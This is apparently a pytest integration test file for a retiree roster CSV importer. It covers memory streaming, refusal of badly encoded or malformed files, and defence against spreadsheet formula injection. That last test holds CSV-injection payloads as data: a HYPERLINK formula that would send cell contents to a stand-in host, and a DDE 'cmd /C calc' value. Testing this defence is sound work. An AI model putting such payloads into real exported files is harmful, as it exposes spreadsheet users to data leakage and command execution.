"""Roster import as a file: streamed (memory flat in the file's size), and files that are
not roster CSV refused with one clear line, on SQLite and PostgreSQL."""

import datetime as dt
import re
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from central.cli import main
from central.people import coverage, population, roster
from central.store import schema
from common import idnumber
from tests.fixtures.proposals import staff_cli

pytestmark = pytest.mark.integration

WANG = idnumber.make("110105", dt.date(1950, 3, 7), 124)
ROW = f"{WANG},Wang Fang,F,1950-03-07\n"


def _count(engine: Any) -> int:
    with engine.connect() as conn:
        return int(conn.scalar(sa.select(sa.func.count()).select_from(schema.retirees)))


def _clear(engine: Any) -> None:
    with engine.begin() as conn:
        for table in (schema.events, schema.roster_versions, schema.retirees):
            conn.execute(table.delete())


def _peak_of_import(engine: Any, path: Path) -> int:
    """Peak bytes Python allocated while importing ``path`` into an empty roster."""
    _clear(engine)
    tracemalloc.start()
    try:
        report = roster.import_csv(engine, path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert report.added == _count(engine)
    return peak


def test_import_memory_does_not_grow_with_the_file(central_engine: Any, tmp_path: Path) -> None:
    files = {}
    for rows in (100, 2_500, 10_000):
        files[rows] = tmp_path / f"roster-{rows}.csv"
        population.write_csv(population.generate(rows, seed=rows), files[rows])
    _peak_of_import(central_engine, files[100])  # modules, statement caches: warm
    small = _peak_of_import(central_engine, files[2_500])
    large = _peak_of_import(central_engine, files[10_000])
    assert _count(central_engine) == 10_000
    # holding the file (or an object per row) makes 4x the rows cost 4x (the import before
    # issue 12: 4.9 -> 20 MB); streamed, a chunk of rows is the most ever held (7.2-7.9 MB)
    assert large < small * 1.25, (small, large)


def test_files_that_are_not_roster_csv(central_engine: Any, tmp_path: Path) -> None:
    path = tmp_path / "roster.csv"
    path.write_text("id_number,name,sex,birth_date\n" + ROW, encoding="utf-8-sig")  # BOM
    assert roster.import_csv(central_engine, path).added == 1
    _clear(central_engine)

    path.write_bytes(b"id_number,name,sex,birth_date\n" + ROW.encode() * 3000 + b"Li \xff\n")
    with pytest.raises(roster.RosterFileError, match="save it as UTF-8 CSV"):
        roster.import_csv(central_engine, path, partial=True)
    long_cell = "x" * 200_000  # past the csv module's field limit: the rest is unreadable
    for text, needle in [
        ("", "no header row (empty file)"),
        (f"id_number,name,sex,birth_date\n{ROW}{WANG},{long_cell},F,1950-03-07\n", "line 3"),
        ("id_number,name,sex,birth_date,name\n" + ROW, "field name: column given twice"),
    ]:
        path.write_text(text, encoding="utf-8")
        with pytest.raises(roster.RosterError, match=re.escape(needle)):
            roster.import_csv(central_engine, path, partial=True)
    assert _count(central_engine) == 0


def test_cli_refuses_bad_files_in_one_line(tmp_path: Path) -> None:
    config = tmp_path / "central.toml"
    config.write_text('[database]\nurl = "sqlite:///central.sqlite"\n', encoding="utf-8")

    upgraded = CliRunner().invoke(main, ["--config", str(config), "db", "upgrade"])
    assert upgraded.exit_code == 0
    cli = staff_cli(config, f"sqlite:///{tmp_path / 'central.sqlite'}", tmp_path / "staff")
    for name, data in [
        ("empty.csv", b""),
        ("twice.csv", b"id_number,name,sex,birth_date,sex\n" + ROW.encode()),
        ("latin1.csv", "id_number,name,sex,birth_date\nJosé\n".encode("latin-1")),
        ("utf16.csv", "id_number,name,sex,birth_date\n".encode("utf-16")),
    ]:
        (tmp_path / name).write_bytes(data)
        done = cli("roster", "import", str(tmp_path / name), "--partial", who="clerk")
        assert done.exit_code == 1, (name, done.output)
        assert done.output.startswith("error: ") and "Traceback" not in done.output


def test_formulas_are_refused_on_import_and_neutralised_on_export(
    central_engine: Any, tmp_path: Path
) -> None:
    path = tmp_path / "roster.csv"
    li = idnumber.make("310104", dt.date(1948, 11, 30), 31)
    path.write_text(
        "id_number,name,sex,birth_date,community,account_name\n"
        f'{WANG},"=HYPERLINK(""http://x.example/""&A1)",F,1950-03-07,Chaoyang,\n'
        f"{li},Li Wei,M,1948-11-30,\t@SUM(1+1),-Li Wei\n",
        encoding="utf-8",
    )
    with pytest.raises(roster.RosterError) as info:
        roster.import_csv(central_engine, path)
    assert [(e.line, e.field) for e in info.value.errors] == [
        (2, "name"),
        (3, "community"),
        (3, "account_name"),
    ]
    assert "starts with '=', which a spreadsheet runs as a formula" in str(info.value)
    # a value stored before this rule (or by SQL) is still neutralised in every CSV export
    roster.upsert(
        central_engine,
        [
            {
                "id_number": WANG,
                "name": "Wang Fang",
                "sex": "F",
                "birth_date": dt.date(1950, 3, 7),
                "community": "=cmd|' /C calc'!A0",
            }
        ],
        "test",
        dt.datetime.now(dt.UTC),
    )
    rows = coverage.report(central_engine, dt.date(2026, 4, 1), 30)
    text = coverage.to_csv(rows)
    assert "'=cmd|' /C calc'!A0" in text and '"=cmd' not in text
